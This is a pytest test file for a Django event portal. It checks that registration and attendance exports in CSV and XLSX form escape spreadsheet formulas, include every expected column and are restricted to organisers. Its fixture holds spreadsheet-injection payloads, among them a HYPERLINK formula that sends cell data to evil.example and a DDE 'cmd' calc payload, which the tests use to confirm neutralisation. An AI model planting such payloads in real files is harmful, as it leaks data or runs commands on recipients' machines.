"""Exports of registrations and attendance (issue 7 item 6): CSV and XLSX through ``portal.exports``, formula-safe
(a registrant named "=HYPERLINK(...)" stays text), with every column organisers need, private and no-store."""

import csv
import io

import pytest
from openpyxl import load_workbook

from events.models import Attendance, RegistrationQuestion, RegistrationStatus
from tests.events.factories import RegistrationFactory
from tests.events.outcome_world import build_world, client_for, sub_url
from tests.portal.factories_accounts import UserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.fixture
def world(events_index):
    world = build_world(events_index)
    event = world["event"]
    question = RegistrationQuestion.objects.create(page=event, label="Which platform do you use?")
    evil = UserFactory(first_name=EVIL, last_name="", email="evil@example.org")
    RegistrationFactory(
        event=event,
        user=evil,
        organisation="@SUM(1+1)",
        accessibility_needs="-2+3",
        dietary_needs="+cmd|' /C calc'!A0",
        answers={str(question.pk): "=1+1"},
        attendance=Attendance.ATTENDED,
    )
    RegistrationFactory(event=event, status=RegistrationStatus.CANCELLED, user=UserFactory(first_name="Cane"))
    return world


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _xlsx(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.active


def test_registrations_csv_has_every_column_and_neutralises_formulas(world):
    response = client_for(world, "coordinator").get(sub_url(world["event"], "organiser_registrations_export", "csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="registrations-' in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    rows = _csv(response)
    assert rows[0] == [
        "Name",
        "Email",
        "Organisation",
        "Status",
        "Waitlist position",
        "Registered",
        "Attendance",
        "Accessibility needs",
        "Dietary needs",
        "Which platform do you use?",
    ]
    evil = next(row for row in rows if row[1] == "evil@example.org")
    assert evil[0] == "'" + EVIL
    assert evil[2] == "'@SUM(1+1)"
    assert evil[7] == "'-2+3"
    assert evil[8].startswith("'+cmd")
    assert evil[9] == "'=1+1"
    assert evil[3] == "Confirmed"
    assert evil[6] == "Attended"
    assert "(Europe/Skopje," in evil[5]
    waiting = next(row for row in rows if row[0] == "Vesna Waiting")
    assert waiting[4] == "1"
    assert any(row[3] == "Cancelled" for row in rows[1:])
    assert len(rows) == 1 + 4


def test_registrations_xlsx_keeps_formulas_as_text(world):
    response = client_for(world, "staff").get(sub_url(world["event"], "organiser_registrations_export", "xlsx"))
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    assert "no-store" in response["Cache-Control"]
    sheet = _xlsx(response)
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    evil = cells[EVIL]
    assert evil.data_type == "s"  # a string, never a formula
    assert evil.quotePrefix
    assert cells["=1+1"].data_type == "s"
    assert sheet.title == "Registrations"


def test_attendance_exports_list_confirmed_people_with_their_attendance(world):
    client = client_for(world, "coordinator")
    rows = _csv(client.get(sub_url(world["event"], "organiser_attendance_export", "csv")))
    assert rows[0] == ["Name", "Email", "Organisation", "Attendance", "Recorded"]
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted(["'" + EVIL, "Rina Registrant"])
    evil = next(row for row in rows if row[1] == "evil@example.org")
    assert evil[3] == "Attended"
    sheet = _xlsx(client.get(sub_url(world["event"], "organiser_attendance_export", "xlsx")))
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["Name", "Email", "Organisation", "Attendance", "Recorded"]
    assert len(values) == 3


@pytest.mark.parametrize("role", ["anonymous", "outsider", "registrant", "member", "other_coordinator"])
@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("organiser_registrations_export", "csv"),
        ("organiser_registrations_export", "xlsx"),
        ("organiser_attendance_export", "csv"),
        ("organiser_attendance_export", "xlsx"),
    ],
)
def test_exports_are_refused_to_non_organisers(world, role, name, fmt):
    response = client_for(world, role).get(sub_url(world["event"], name, fmt))
    assert response.status_code == (302 if role == "anonymous" else 403)
    assert not response.streaming
    assert b"evil@example.org" not in response.content


def test_an_unknown_format_is_not_routed(world):
    response = client_for(world, "staff").get(sub_url(world["event"], "organiser_registrations") + "export/ods/")
    assert response.status_code == 404
